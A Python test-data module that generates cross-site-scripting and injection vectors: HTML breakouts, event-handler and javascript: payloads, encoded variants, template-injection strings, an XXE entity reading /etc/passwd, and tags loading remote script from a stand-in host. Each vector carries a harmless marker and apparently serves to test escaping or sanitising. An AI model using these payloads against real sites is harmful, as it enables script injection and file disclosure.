"""Texts that try to become code: each leaves a mark (`zxq`) behind wherever a page would take it for more than text."""

from collections.abc import Iterator
from itertools import zip_longest

MARK = "zxq"
ACT = "zxq(1)"

# How a text gets out of the place it stands in …
WAYS_OUT = (
    "",
    '">',
    "'>",
    ">",
    "-->",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</option></select>",
    "</svg>",
    "</bdi></p>",
    '"/>',
    "]]>",
    "*/",
    '\\">',
    "</template>",
    "</noscript>",
)
# … and what it then tries to be
BECOMES = (
    f"<script>{ACT}</script>",
    "<script zxq src=//zxq.example/a.js></script>",
    f"<ScRiPt>{ACT}</sCrIpT >",
    f"<img zxq src=x onerror={ACT}>",
    f"<img/zxq/src=x/onerror={ACT}>",
    f"<svg zxq onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate zxq onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><set zxq attributeName=href to=javascript:{ACT}>",
    f"<math zxq href=javascript:{ACT}>x</math>",
    f"<iframe zxq srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<iframe zxq src=javascript:{ACT}></iframe>",
    f"<object zxq data=javascript:{ACT}></object>",
    f"<embed zxq src=javascript:{ACT}>",
    f"<a zxq href=javascript:{ACT}>x</a>",
    f"<a zxq href=jav&#x09;ascript:{ACT}>x</a>",
    f"<form zxq action=javascript:{ACT}><button>x</button></form>",
    f"<button zxq formaction=javascript:{ACT}>x</button>",
    f"<input zxq autofocus onfocus={ACT}>",
    f"<details zxq open ontoggle={ACT}>",
    f"<body zxq onload={ACT}>",
    f"<video zxq><source onerror={ACT}></video>",
    f"<audio zxq src=x onerror={ACT}>",
    f"<marquee zxq onstart={ACT}>x",
    "<base zxq href=//zxq.example/>",
    f"<meta zxq http-equiv=refresh content='0;url=javascript:{ACT}'>",
    "<link zxq rel=stylesheet href=//zxq.example/a.css>",
    "<style zxq>@import '//zxq.example/a.css'</style>",
    "<zxq-one is=zxq>",
    f"<template zxq><script>{ACT}</script></template>",
    f"<noscript><p title='</noscript><img zxq src=x onerror={ACT}>'>",
    "<div zxq hx-get=//zxq.example/ hx-trigger=load></div>",
    f"<div zxq hx-on:load={ACT}></div>",
    f"<div zxq data-hx-on-load={ACT}>",
    "<p zxq id=form name=rubrik>",
    "<p zxq data-exit-url=//zxq.example/ data-save=//zxq.example/a>",
)
ATTRIBUTES = tuple(
    f"{quote} {name}={value} zxq={quote}"
    for quote in ('"', "'", "", "`")
    for name, value in (
        ("onmouseover", ACT),
        ("onfocus", f"{ACT} autofocus tabindex=1"),
        ("style", "background:url(//zxq.example)"),
        ("hx-get", "//zxq.example/"),
        ("formaction", f"javascript:{ACT}"),
        ("srcdoc", "<script>zxq</script>"),
    )
)
ADDRESSES = (
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"  javascript:{ACT}",
    f"java\tscript:{ACT}",
    f"javascript://%0a{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    "data:text/html;base64,PHNjcmlwdD56eHEoMSk8L3NjcmlwdD4=",
    f"vbscript:{ACT}",
    "//zxq.example/",
    "https://zxq.example/",
    "tel:1;javascript:zxq",
    "blob:zxq",
    "feed:javascript:zxq(1)",
)
CODED = (
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"&#60;script&#62;{ACT}&#60;/script&#62;",
    f"%3Cscript%3E{ACT}%3C/script%3E",
    f"%253Cscript%253E{ACT}",
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{ACT}",
    f"+ADw-script+AD4-{ACT}",
    f"＜script＞{ACT}＜/script＞",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<<script>{ACT}//<</script>",
    f"<script\u00a0>{ACT}",
    f"<\u200bscript>{ACT}",
    f"{{{{ {ACT} }}}}",
    "{{ config }}",
    "{% include 'zxq' %}",
    f"${{{ACT}}}",
    f"#{{{ACT}}}",
    f"<%= {ACT} %>",
    "%(zxq)s %s %d {0} {zxq}",
    f"`${{{ACT}}}`",
    f"<!--[if IE]><script>{ACT}</script><![endif]-->",
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"<?zxq {ACT} ?>",
    "<!DOCTYPE zxq [<!ENTITY zxq SYSTEM 'file:///etc/passwd'>]>&zxq;",
    "&zxq;",
    f"&quot; onclick={ACT} zxq=&quot;",
    f"\u202e>tpircs/<{ACT}>tpircs<",
    "</p zxq></bdi zxq>",
    f"<p zxq onclick={ACT}>",
)


def _built() -> Iterator[str]:
    """Every way out with everything it may become, mixed so that any beginning of the row holds all kinds."""
    rows = [[f"{out}{what}" for what in BECOMES] for out in WAYS_OUT]
    for place in range(len(BECOMES)):
        for shift, row in enumerate(rows):
            yield row[(place + shift * 2) % len(row)]


def vectors(most: int) -> list[str]:
    """That many different texts, at least a few of each kind."""
    rounds = zip_longest(_built(), ATTRIBUTES, ADDRESSES, CODED)
    found = dict.fromkeys(text for one_of_each in rounds for text in one_of_each if text is not None)
    assert len(found) >= most
    return list(found)[:most]
